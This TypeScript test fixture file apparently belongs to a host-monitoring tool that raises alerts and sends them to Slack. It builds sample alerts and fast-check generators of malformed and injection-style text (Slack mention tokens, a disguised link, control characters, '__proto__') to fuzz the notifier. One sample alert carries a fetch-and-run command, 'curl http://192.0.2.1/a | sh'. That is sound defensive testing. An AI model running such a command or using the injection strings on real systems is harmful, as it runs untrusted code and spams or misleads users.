import fc from 'fast-check'
import { ALERT_KINDS } from '../src/detect/alert-kind.ts'
import { SEVERITIES } from '../src/detect/severity.ts'
import type { Telling } from '../src/notify/telling.ts'
import { ALERT_STATUSES, type Alert } from '../src/store/alerts.ts'
import { TEST_NOW } from './world.ts'

/** An alert as a rule makes it. */
export function alertOf(overrides: Partial<Alert> = {}): Alert {
  return {
    alertId: 'a1b2c3',
    kind: 'match',
    ruleId: 'posix.cron-fetches-code',
    dedup: 'host-1',
    episode: 1,
    severity: 'high',
    title: 'Cron fetches code',
    runbook: 'Read the file the job came from.',
    context: '{"command":"curl"}',
    hostId: 'host-1',
    hostname: 'web-1.example.com',
    query: 'crontab',
    pack: 'incident-response',
    firstRowId: 'r1',
    eventCount: 3,
    firstEventAt: TEST_NOW,
    lastEventAt: TEST_NOW + 60_000,
    createdAt: TEST_NOW,
    status: 'open',
    updatedAt: TEST_NOW,
    acknowledgedAt: null,
    resolvedAt: null,
    openedAt: null,
    hostCount: 1,
    statusBy: '',
    ...overrides,
  }
}

/** What is told of it, the first time. */
export function tellingOf(overrides: Partial<Telling> = {}): Telling {
  return {
    deliveryId: 'a1b2c3.slack.trigger',
    action: 'trigger',
    alert: alertOf(),
    columns: { command: 'curl http://192.0.2.1/a | sh' },
    publicUrl: 'https://margay.example.com',
    now: TEST_NOW + 1_000,
    ...overrides,
  }
}

/** Text that hosts, rules and people may have written to break what reads it. */
export const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ maxLength: 5 }).map(part => part.repeat(1_000)),
  fc.constantFrom(
    '',
    ' ',
    '\ud800',
    '\u0000\u202e',
    '\u{1f408}'.repeat(3_000),
    '__proto__',
    'x'.repeat(600_000),
  ),
  fc.constantFrom(
    '&'.repeat(5_000),
    '<!channel>',
    '<https://evil.example|ok>',
    '```\n<!here>',
    '"'.repeat(9_000),
  ),
  fc.constantFrom('\n'.repeat(9_000), '\u0001'.repeat(9_000), 'a\n'.repeat(9_000)),
)

const alerts: fc.Arbitrary<Alert> = fc
  .record({
    alertId: fc.nat().map(number => number.toString(16).padStart(20, '0')),
    kind: fc.constantFrom(...ALERT_KINDS),
    ruleId: hostileText,
    severity: fc.constantFrom(...SEVERITIES),
    status: fc.constantFrom(...ALERT_STATUSES),
    statusBy: hostileText,
    title: hostileText,
    runbook: hostileText,
    context: fc.json(),
    hostId: fc.option(hostileText),
    hostname: hostileText,
    query: hostileText,
    pack: hostileText,
    eventCount: fc.nat(),
  })
  .map(overrides => alertOf({ ...overrides, context: `{"value":${overrides.context}}` }))

/** Anything that may have to be told. */
export const hostileTellings: fc.Arbitrary<Telling> = fc.record(
  {
    deliveryId: fc.constantFrom(`${'a'.repeat(20)}.${'d'.repeat(32)}.update.123456789`, 'a.b.trigger'),
    action: fc.constantFrom('trigger', 'update', 'acknowledge', 'resolve'),
    alert: alerts,
    columns: fc.option(fc.dictionary(hostileText, hostileText, { maxKeys: 40, noNullPrototype: false })),
    publicUrl: fc.constantFrom(null, 'https://margay.example.com'),
    now: fc.constant(TEST_NOW),
    rule: fc.record({
      means: hostileText,
      check: hostileText,
      benign: hostileText,
      references: fc.array(fc.webUrl()),
    }),
    hosts: fc.array(hostileText, { maxLength: 20 }),
  },
  { requiredKeys: ['deliveryId', 'action', 'alert', 'columns', 'publicUrl', 'now'] },
)
